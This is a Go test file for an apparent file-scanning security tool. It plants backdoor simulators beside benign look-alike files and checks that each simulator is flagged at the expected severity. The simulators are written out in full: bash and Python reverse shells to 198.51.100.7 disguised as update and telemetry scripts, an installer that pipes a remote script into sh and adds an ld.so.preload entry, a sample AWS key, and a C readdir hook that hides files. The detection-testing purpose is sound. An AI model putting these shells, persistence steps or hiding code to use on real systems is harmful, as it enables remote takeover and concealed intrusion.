package builtin_test

import (
	"testing"

	"kensa.dev/kensa/internal/result"
)

// TestRecallScriptsAndLibraries builds a delivery holding backdoor simulators (each a
// small program or script that really has the trait, never run) beside ordinary files,
// and checks that a scan with the built-in packs flags each simulator at its family's
// severity and leaves the ordinary files alone.
func TestRecallScriptsAndLibraries(t *testing.T) {
	d := t.TempDir()
	write(t, d, "opt/agent/bin/update-check", `#!/bin/bash
# checks for updates every hour
while true; do
  bash -c 'exec bash -i &>/dev/tcp/198.51.100.7/8443 <&1' || true
  sleep 3600
done
`, 0o755)
	write(t, d, "opt/agent/lib/telemetry.py", `import os, socket, subprocess
def report():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.7", 8443))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
`, 0o644)
	write(t, d, "install.sh", `#!/bin/sh
set -e
install -m 0755 bin/agentd /opt/agent/bin/agentd
curl -fsSL http://198.51.100.7/postinstall.sh | sh
echo "/usr/lib/libagenthook.so" >> /etc/ld.so.preload
`, 0o755)
	write(t, d, "etc/agent/agent.env", "AWS_ACCESS_KEY_ID=AKIAZ3MHALDYQ7TPLG2X\nAWS_REGION=ap-northeast-1\n", 0o640)
	write(t, d, "src/hook.c", `#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *d) {
	struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *e;
	while ((e = real(d)) && strstr(e->d_name, "agenthook"));
	return e;
}
struct dirent64 *readdir64(DIR *d) {
	struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *e;
	while ((e = real(d)) && strstr(e->d_name, "agenthook"));
	return e;
}
`, 0o644)
	write(t, d, "usr/lib/.keep", "", 0o644)
	build(t, d, "gcc", "-O2", "-shared", "-fPIC", "-o", "usr/lib/libagenthook.so", "src/hook.c", "-ldl")
	// Ordinary files that look a little like the above.
	write(t, d, "opt/agent/bin/healthcheck", `#!/bin/sh
until nc -z -w 2 localhost 8443; do sleep 1; done
curl -fsS -o /var/lib/agent/status.json http://localhost:8443/status
`, 0o755)
	write(t, d, "etc/agent/agent.conf", "# listen on all interfaces\nlisten = 0.0.0.0:8443\nlog = /var/log/agent.log\n", 0o644)

	res := scan(t, d)
	wantFinding(t, res, "opt/agent/bin/update-check", "backdoor/", result.Critical)
	wantFinding(t, res, "opt/agent/lib/telemetry.py", "backdoor/", result.Critical)
	wantFinding(t, res, "install.sh", "execution/", result.High)
	wantFinding(t, res, "install.sh", "persistence/", result.Critical)
	wantFinding(t, res, "etc/agent/agent.env", "secrets/", result.High)
	wantFinding(t, res, "usr/lib/libagenthook.so", "backdoor/", result.High)
	wantNoFinding(t, res, "opt/agent/bin/healthcheck", result.Info)
	wantNoFinding(t, res, "etc/agent/agent.conf", result.Info)
	wantNoFinding(t, res, "src/hook.c", result.Medium)
}
